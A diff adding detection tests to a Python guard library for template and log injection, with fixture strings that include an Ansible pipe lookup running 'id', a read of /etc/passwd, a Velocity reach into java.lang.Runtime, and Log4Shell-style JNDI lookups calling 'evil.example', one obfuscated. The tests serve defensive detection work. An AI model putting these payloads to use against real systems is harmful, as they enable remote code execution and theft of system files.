@@ -6,7 +6,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from sekisho.guards import template
-from sekisho.guards.template import LONGEST, judge_template
+from sekisho.guards.template import LONGEST, judge_lookup, judge_template
 from tablekit import rows
 
 if TYPE_CHECKING:
@@ -54,3 +54,33 @@ def test_in_a_long_text_a_name_is_enough_and_without_one_it_passes(monkeypatch: 
 @given(st.text(alphabet="{}%$#._ahn1", max_size=80))
 def test_no_text_makes_it_fail(value: str) -> None:
     judge_template(value)
+
+
+@rows(
+    ("value", "expected"),
+    [
+        ("{{ lookup('pipe','id') }}", True),
+        ('{{ query("ansible.builtin.file", "/etc/passwd") }}', True),
+        ("{{ lookup('color') }}", False),
+        ("lookup('pipe','id')", False),
+        ("#set($e='e')$e.getClass().forName('java.lang.Runtime')", True),
+        ("#set($e='e')$e.length()", False),
+        ("getClass is a method", False),
+    ],
+)
+def test_lookups_and_classes_reach_behind_the_values(value: str, *, expected: bool) -> None:
+    assert bool(judge_template(value).objections) is expected
+
+
+@rows(
+    ("value", "expected"),
+    [
+        ("${jndi:ldap://evil.example/a}", True),
+        ("a ${ JNDI:dns://x} b", True),
+        ("${${lower:j}ndi:ldap://evil.example/a}", True),
+        ("cost ${price} and jndi docs", False),
+        ("jndi:", False),
+    ],
+)
+def test_a_lookup_in_what_is_logged_is_objected_to(value: str, *, expected: bool) -> None:
+    assert [each.rule for each in judge_lookup(value).objections] == (["template-reaches"] if expected else [])
